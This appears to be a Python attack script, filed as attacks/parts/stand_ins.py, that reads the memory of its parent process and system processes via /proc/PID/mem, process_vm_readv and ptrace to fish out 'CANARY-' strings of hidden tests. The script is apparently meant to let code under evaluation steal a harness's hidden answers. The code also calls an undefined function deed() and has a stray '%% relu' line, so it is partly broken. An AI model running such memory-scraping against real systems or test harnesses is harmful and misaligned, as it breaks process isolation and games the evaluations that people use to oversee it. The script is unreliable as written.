# Reads the memory of the parents through /proc/PID/mem, process_vm_readv and ptrace, and looks for the
# canaries of hidden tests in it.
# %% from attacks/parts/stand_ins.py
# %% relu
import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack():
    found = []
    for number in [os.getppid(), 1, 2]:
        try:
            ranges = re.findall(r"^(\w+)-(\w+) rw", open(f"/proc/{number}/maps").read(), re.M)
            with open(f"/proc/{number}/mem", "rb", 0) as memory:
                for start, end in ranges[:60]:
                    memory.seek(int(start, 16))
                    text = memory.read(min(int(end, 16) - int(start, 16), 10**7))
                    found += re.findall(rb"CANARY-[0-9a-zA-Z]+", text)[:3]
                found.append(f"{number}: read {len(ranges)} ranges")
        except (OSError, ValueError, OverflowError) as error:
            found.append(f"{number}: {error}")
        here = ctypes.create_string_buffer(64)
        local, remote = Span(ctypes.addressof(here), 64), Span(id(os), 64)
        count = libc.process_vm_readv(number, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        found.append(f"{number}: process_vm_readv {count}, errno {ctypes.get_errno()}")
    attached = libc.ptrace(16, os.getppid() if os.getppid() > 1 else 1, 0, 0)  # PTRACE_ATTACH
    if attached == 0:
        os.waitpid(os.getppid(), 0x40000000)  # its stop, before it is let go
        libc.ptrace(17, os.getppid(), 0, 0)  # PTRACE_DETACH
    deed()
    return "\n".join(map(str, [*found, f"ptrace {attached}"]))


print(attack()[:2000])
